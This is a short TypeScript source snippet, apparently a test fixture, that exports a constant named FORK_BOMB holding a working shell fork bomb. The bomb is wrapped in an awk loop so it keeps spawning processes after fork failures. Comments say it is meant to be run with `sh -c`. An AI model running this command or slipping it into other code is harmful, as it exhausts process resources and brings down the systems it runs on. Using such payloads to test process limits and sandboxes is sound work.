/** A program that makes processes as fast as it can, for ever: `sh -c FORK_BOMB`. */

/** awk goes on when it cannot fork, which ends a shell. */
export const FORK_BOMB = `awk 'BEGIN { for (;;) system("bomb() { bomb | bomb & }; bomb 2>/dev/null; sleep 0.1") }'`
